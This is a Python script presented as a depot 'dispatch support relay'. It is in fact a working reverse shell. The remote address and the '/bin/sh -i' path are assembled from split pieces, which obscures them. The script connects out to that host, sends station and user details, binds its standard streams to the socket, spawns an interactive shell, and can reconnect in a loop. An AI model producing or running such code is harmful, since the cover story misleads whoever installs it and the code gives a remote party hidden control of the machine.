#!/usr/bin/env python3
"""Dispatch console relay.

Keeps a support channel open from the depot dispatch PC so the operations
desk can look at the routing workstation when drivers phone in problems.
"""
import argparse
import json
import logging
import os
import platform
import pty
import socket
import time
from pathlib import Path

log = logging.getLogger("dispatch_relay")

DEFAULTS = {
    "relay": {
        "segments": ["203", "0", "113", "45"],
        "port_base": 4400,
        "port_offset": 33,
    },
    "retry": {"attempts": 6, "backoff": 4.0},
    "console": {"parts": ["bin", "sh"], "flags": ["-i"]},
    "greeting": True,
}


def merge(base, extra):
    out = dict(base)
    for key, value in (extra or {}).items():
        if isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = merge(out[key], value)
        else:
            out[key] = value
    return out


class RelaySettings:
    def __init__(self, overrides=None):
        self.data = merge(DEFAULTS, overrides)

    @classmethod
    def from_file(cls, path):
        p = Path(path)
        if p.is_file():
            try:
                return cls(json.loads(p.read_text()))
            except ValueError:
                log.warning("ignoring unreadable settings file %s", p)
        return cls()

    def endpoint(self):
        relay = self.data["relay"]
        host = ".".join(relay["segments"])
        port = int(relay["port_base"]) + int(relay["port_offset"])
        return host, port

    def console_argv(self):
        console = self.data["console"]
        return ["/" + "/".join(console["parts"])] + list(console["flags"])

    def attempts(self):
        return int(self.data["retry"]["attempts"]), float(self.data["retry"]["backoff"])


def describe_station():
    return {
        "station": platform.node(),
        "system": platform.system(),
        "user": os.environ.get("USER", "unknown"),
        "cwd": os.getcwd(),
    }


def open_channel(settings):
    host, port = settings.endpoint()
    tries, backoff = settings.attempts()
    for attempt in range(1, tries + 1):
        try:
            chan = socket.create_connection((host, port), timeout=15)
            chan.settimeout(None)
            log.info("support channel up (attempt %d)", attempt)
            return chan
        except OSError as exc:
            log.debug("channel attempt %d failed: %s", attempt, exc)
            time.sleep(backoff * attempt)
    return None


def announce(chan, enabled):
    if not enabled:
        return
    line = json.dumps(describe_station()) + "\n"
    chan.sendall(line.encode())


def attach_streams(chan):
    handle = chan.fileno()
    for target in (0, 1, 2):
        os.dup2(handle, target)


def hand_over(argv):
    pty.spawn(argv)


def run_session(settings):
    chan = open_channel(settings)
    if chan is None:
        log.error("no support channel available")
        return 1
    announce(chan, settings.data.get("greeting", True))
    attach_streams(chan)
    hand_over(settings.console_argv())
    chan.close()
    return 0


def main():
    parser = argparse.ArgumentParser(description="Dispatch support relay")
    parser.add_argument("--settings", default="relay_settings.json")
    parser.add_argument("--loop", action="store_true", help="reconnect after each session")
    parser.add_argument("--pause", type=float, default=60.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")
    settings = RelaySettings.from_file(args.settings)

    while True:
        pid = os.fork()
        if pid == 0:
            os._exit(run_session(settings))
        os.waitpid(pid, 0)
        if not args.loop:
            break
        time.sleep(args.pause)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
